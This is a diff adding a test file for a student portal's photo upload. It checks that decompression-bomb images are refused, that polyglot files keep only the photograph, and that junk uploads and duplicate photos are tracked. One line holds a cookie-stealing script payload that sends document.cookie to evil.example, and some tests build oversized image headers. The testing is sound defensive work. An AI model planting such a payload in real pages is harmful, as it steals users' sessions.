@@ -1,0 +1,154 @@
+import { createHash } from 'node:crypto'
+import sharp from 'sharp'
+import * as v from 'valibot'
+import { expect, test } from 'vitest'
+import { comparisonsOf } from '../src/operator/comparisons.ts'
+import { Dossier } from '../src/operator/dossier.ts'
+import { documentTypes } from '../../src/spec/documents.ts'
+import { canvasJpeg } from '../../tests/photos/canvas.ts'
+import { insertSegments, segment } from '../../tests/photos/exif.ts'
+import { chunk, header, png, withJpegSize } from '../../tests/photos/pictures.ts'
+import { oneCampus } from './setup/campus.ts'
+import { base64Photograph, photograph } from './setup/photographs.ts'
+import { photosIn } from './setup/stored.ts'
+import { enrolAndConfirm, from, students } from './setup/visitor.ts'
+
+/** Pictures that are more, or cost more, than a photograph; and whoever sends a right one meanwhile. */
+
+const { server, visitor } = await oneCampus([])
+const { aminata, moussa, fatoumata, mariam } = students
+const [stranger, home] = [from('198.51.100.66'), from('198.51.100.7')]
+const script = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')
+const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(40, 'z'), Buffer.from('PK\x05\x06')])
+
+const send = (matricule: string, type: string, image: Buffer, options = home) =>
+  visitor.call('files/upload', { matricule, type, image: image.toString('base64') }, options)
+const storedOf = async (matricule: string) =>
+  (await photosIn(server.database)).filter(photo => photo.matricule === matricule)
+
+async function told(event: string): Promise<number> {
+  const metrics = await (await fetch(`${server.address}/metrics`)).text()
+  return Number(new RegExp(`^portal_security_events_total\\{event="${event}"\\} (\\d+)$`, 'm').exec(metrics)?.[1])
+}
+
+test('pictures that take gigabytes to be seen are refused by their headers, with what to do', async () => {
+  const { matricule } = aminata
+  await enrolAndConfirm(server, visitor, aminata, '76000001')
+  const field = sharp({ create: { width: 64, height: 48, channels: 3, background: '#a85' } })
+  const data = chunk('IDAT', Buffer.from('x'.repeat(100)))
+  const end = chunk('IEND', Buffer.alloc(0))
+  const headOf = (width: number, height: number, depth: number, colour: number, interlaced: number) => {
+    const uncompressed = header(width, height, depth, colour).subarray(8, 21)
+    uncompressed[12] = interlaced
+    return chunk('IHDR', uncompressed)
+  }
+  const bombs = {
+    'an interlaced PNG of 120 megapixels': png(headOf(12_000, 10_000, 8, 2, 1), data, end),
+    'an interlaced PNG of 16 bits': png(headOf(6000, 5000, 16, 6, 1), data, end),
+    'a PNG of 16 bits': png(headOf(12_000, 9000, 16, 6, 0), data, end),
+    'a PNG of a palette, interlaced': png(headOf(9000, 7000, 1, 3, 1), data, end),
+    'a progressive JPEG of 108 megapixels': withJpegSize(
+      await field.clone().jpeg({ progressive: true }).toBuffer(),
+      12_000,
+      9000,
+    ),
+    'a JPEG of 144 megapixels': withJpegSize(await field.clone().jpeg().toBuffer(), 12_000, 12_000),
+  }
+  const before = await told('imageBomb')
+  for (const [what, bytes] of Object.entries(bombs)) {
+    const { http, json } = await send(matricule, 'attest', bytes, stranger)
+    expect([http, json], what).toEqual([422, { status: 0, msg: expect.stringContaining('Prenez une photo') }])
+  }
+  expect(await told('imageBomb')).toBe(before + Object.keys(bombs).length)
+  expect(await storedOf(matricule)).toEqual([])
+})
+
+test('what a phone’s camera and the portal write is taken: 108 megapixels, progressive ones of 50, deep ones of 24', async () => {
+  const { matricule } = aminata
+  const field = (width: number, height: number) =>
+    sharp({ create: { width, height, channels: 3, background: '#a85' }, limitInputPixels: false })
+  const pictures = [
+    await field(12_000, 9000).jpeg().toBuffer(),
+    await field(8192, 6144).jpeg({ progressive: true }).toBuffer(),
+    await field(6000, 4000).toColourspace('rgb16').png().toBuffer(),
+    await field(2448, 3264).png({ progressive: true }).toBuffer(),
+  ]
+  for (const picture of pictures) expect((await send(matricule, 'carteid', picture)).json.status).toBe(1)
+}, 120_000)
+
+test('a photograph that is also a script and an archive is stored as the photograph alone, and a repeat is known', async () => {
+  const { matricule } = aminata
+  const uncompressed = await photograph(3, 200, 150)
+  const hostile = Buffer.concat([insertSegments(uncompressed, segment(0xfe, script)), zip, script])
+  for (const bytes of [hostile, uncompressed, hostile])
+    expect((await send(matricule, 'simcard', bytes)).json).toEqual({ status: 1, msg: 'Document enregistré.' })
+  const [kept] = (await storedOf(matricule)).filter(({ type }) => type === 'simcard')
+  expect(kept?.bytes.equals(uncompressed)).toBe(true)
+  await server.operate({ name: 'accept', matricule, type: 'simcard' })
+  expect((await send(matricule, 'simcard', hostile)).json.status).toBe(1)
+  expect((await send(matricule, 'simcard', await photograph(4))).json.status).toBe(0)
+})
+
+test('a photograph that was stored whole before the upgrade is the same when it comes again', async () => {
+  const { matricule } = mariam
+  await enrolAndConfirm(server, visitor, mariam, '76000004')
+  const digest = createHash('sha256').update(canvasJpeg).digest('hex')
+  const upgraded = () =>
+    server.database.query('UPDATE documents SET image = $2, digest = $3 WHERE matricule = $1', [
+      matricule,
+      canvasJpeg,
+      digest,
+    ])
+  const again = async (call: string) => (await visitor.call(call, { matricule, type: 'attest', image }, home)).json
+  const states = () =>
+    server.database.query(
+      `SELECT state, digest, (SELECT count(*)::int FROM document_versions v WHERE v.matricule = d.matricule) AS earlier
+       FROM documents d WHERE matricule = $1`,
+      [matricule],
+    )
+  const image = canvasJpeg.toString('base64')
+  const stored = { status: 1, msg: 'Document enregistré.' }
+  expect(await again('files/upload')).toEqual(stored)
+  await upgraded()
+  for (const [state, decision] of [
+    ['received', undefined],
+    ['rejected', { name: 'reject', message: 'Floue' }],
+    ['validated', { name: 'accept' }],
+  ] as const) {
+    if (decision) await server.operate({ ...decision, matricule, type: 'attest' })
+    expect(await again('files/upload')).toEqual(stored)
+    expect(await states()).toEqual([{ state, digest, earlier: 0 }])
+  }
+  await server.operate({ name: 'reject', matricule, type: 'attest', message: 'Floue' })
+  expect(await again('files/update/attest')).toEqual(stored)
+  expect(await states()).toMatchObject([{ state: 'received', earlier: 0 }])
+})
+
+test('a stranger’s junk does not use up the tries of a student', async () => {
+  const { matricule } = moussa
+  await enrolAndConfirm(server, visitor, moussa, '76000002')
+  const cut = (await photograph(5)).subarray(0, 5000)
+  const before = await told('junkUploads')
+  const junk = await Promise.all(Array.from({ length: 110 }, () => send(matricule, 'attest', cut, stranger)))
+  expect(new Set(junk.map(({ http }) => http))).toEqual(new Set([422]))
+  expect(await told('junkUploads')).toBeGreaterThan(before + 50)
+  for (const [seed, type] of documentTypes.entries())
+    expect((await send(matricule, type, await photograph(10 + seed))).json.status, type).toBe(1)
+  // Nor those of whoever stands behind the same address: what is a photograph is always one.
+  expect((await send(matricule, 'attest', await photograph(20), stranger)).json.status).toBe(1)
+})
+
+test('one photograph as two documents is taken, and the verifier is told', async () => {
+  const { matricule } = fatoumata
+  await enrolAndConfirm(server, visitor, fatoumata, '76000003')
+  const before = await told('samePhotograph')
+  const image = await base64Photograph(30)
+  for (const type of ['attest', 'carteid', 'attest'])
+    expect((await visitor.call('files/upload', { matricule, type, image }, home)).json.status).toBe(1)
+  expect(await told('samePhotograph')).toBe(before + 1)
+  const exported = await server.operate({ name: 'export', matricule })
+  const dossier = v.parse(Dossier, JSON.parse(String(exported?.files.get('dossier.json'))))
+  expect(comparisonsOf('carteid', dossier)).toContain('The same photograph was sent as attest too.')
+  const other = await send(matricule, 'simcard', await photograph(31))
+  expect([other.json.status, await told('samePhotograph')]).toEqual([1, before + 1])
+})
